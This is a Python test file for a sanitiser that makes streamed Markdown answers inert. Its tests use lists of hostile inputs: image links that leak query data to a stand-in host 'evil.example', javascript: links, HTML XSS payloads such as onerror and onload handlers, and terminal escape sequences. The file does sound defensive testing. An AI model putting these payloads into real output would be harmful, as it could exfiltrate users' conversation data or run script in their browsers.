"""Nothing of an answer fetches, links or runs."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from nodes.citations.inert import addresses, harmless, inert_line, sanitise
from nodes.citations.markers import find_markers
from nodes.citations.verdicts import Passage
from nodes.drafting import Gate

HOSTILE = [
    "![x](http://evil.example/?q=history)",
    "[t](http://evil.example)",
    "![](//evil.example/x.png)",
    "<http://evil.example>",
    "[a](javascript:alert(1))",
    "[a](<http://evil.example/a b>)",
    '[a](http://evil.example "t")',
    "[[a](http://b)](http://c)",
    "![a\nb](http://c)",
    "[x]: http://evil.example\n\n[x]",
    "![x][y]\n\n[y]: http://evil.example",
    "[a](\nhttp://e)",
    "[a\\]](http://e)",
    '![a](http://e "x\ny")',
    "![`a`](http://e)",
    "[a](`b`http://x)",
    "> [r]: http://e\n\n[r]",
    "- [r]: http://e\n\n[r]",
    "1. [r]: /x\n\n![r]",
]


def rendered(text: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).render(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_s02_images_and_links_become_text(text: str) -> None:
    shown = rendered(sanitise(text))
    assert "<img" not in shown
    assert "<a " not in shown
    # Left alone it would have been live; only a script's address is refused by this renderer itself.
    assert "<img" in rendered(text) or "<a " in rendered(text) or "javascript" in text


def test_s02_the_address_stays_readable() -> None:
    assert sanitise("![x](http://evil.example/?q=1)") == "x (`http://evil.example/?q=1`)"
    assert sanitise("官网是https://a.example/c。") == "官网是`https://a.example/c`。"


@pytest.mark.parametrize(
    "text", ["<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<script>x</script>", "<!-- x -->", "<a\nhref=x>"]
)
def test_s03_html_is_inert_outside_code(text: str) -> None:
    assert "<" not in sanitise(text)


def test_s03_code_stays_as_it_is() -> None:
    code = "`<b>` 和\n\n```html\n<img src=x>\n[a](http://b)\n```"
    assert sanitise(code) == code
    assert sanitise("1 < 2") == "1 < 2"


@given(
    st.lists(
        st.sampled_from(["[", "]", "(", ")", "!", "http://e", "<", ">", "`", "a", " ", "\n", ":", "x", '"']),
        max_size=25,
    ).map("".join)
)
def test_s02_no_mixture_renders_as_a_link_or_image(text: str) -> None:
    shown = rendered(sanitise(text))
    assert "<img" not in shown
    assert "<a " not in shown


@pytest.mark.parametrize(
    "text",
    [
        "`\n- <img src=x>\n`",
        "> ```\n<img src=x>\n```",
        "1. x\n   ```\n<img src=x>\n   ```",
        "    ```\n<img src=x>\n    ```",
        "\\`<img src=x>`",
        "a ` b <http://e> ` `",
        "_http://e",
        "``x``http://e`y`",
    ],
)
def test_s02_s03_what_only_looks_like_code_is_made_inert_too(text: str) -> None:
    shown = rendered(sanitise(text))
    assert "<img" not in shown
    assert "<a " not in shown
    assert sanitise(sanitise(text)) == sanitise(text)


def test_s02_an_allowed_address_stays_bare_and_never_as_a_link_or_image() -> None:
    allowed = addresses("见 https://a.example/c?x=1，另见 ![p](https://a.example/p.png) 和 [t](https://a.example/t)。")
    assert allowed == {"https://a.example/c?x=1"}
    assert sanitise("见 https://a.example/c?x=1。", allowed) == "见 https://a.example/c?x=1。"
    assert sanitise("见 https://a.example/c?x=2。", allowed) == "见 `https://a.example/c?x=2`。"
    assert sanitise("![p](https://a.example/c?x=1)", allowed) == "p (`https://a.example/c?x=1`)"
    assert addresses("javascript:alert(1) data:text/html,x ftp://a.example") == frozenset()


def test_s03_nothing_is_left_that_a_terminal_obeys_or_that_turns_the_text() -> None:
    assert harmless("a\x1b[31mb\x1b]0;title\x07c\x9b2Jd\x1b(Be\u202ef\r\ng\th") == "abcdef\ng\th"
    assert sanitise("x\x1b[2Jy\x00") == "xy"


def test_s02_a_line_of_unknown_origin_holds_neither_links_nor_numbers() -> None:
    assert inert_line(" 标题 [3]\n![x](http://e/?q=1) <b> ") == "标题 x (`http://e/?q=1`) &lt;b>"


FRAGMENTS = [
    "[", "]", "(", ")", "!", "http://e", "<", "img src=x>", "`", "``", "```", "甲乙。", "Yes.", "\n", "\n\n", " ", ":",
    "[1]", "[x]", "](", "![x](http://e?q=1)", "<http://e>", "> ", "- ", "|", "[x]: http://e", "www.e.com", "//e", "\\",
    "javascript:a", "_", "*", "<a href=x>", "(来源1)", "[^1]: n", "\x1b[1m",
]  # fmt: skip
PASSAGE = Passage(number=1, chunk_id="c", text="甲乙丙丁。Yes it is.", context="")


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(FRAGMENTS), max_size=22).map("".join), st.integers(1, 5))
def test_s02_s03_a_streamed_answer_is_inert_as_a_whole_however_it_is_cut(draft: str, step: int) -> None:
    gate = Gate(passages={1: PASSAGE}, free=(), allow_uncited=True)
    streamed = "".join(gate.feed(draft[at : at + step]) for at in range(0, len(draft), step)) + gate.finish()
    shown = rendered(streamed)
    assert streamed == gate.released
    assert "<img" not in shown
    assert "<a " not in shown
    assert "\x1b" not in shown
    numbers = {number for marker in find_markers(streamed) for number in marker.numbers}
    assert numbers <= set(range(1, len(gate.shown) + 1))
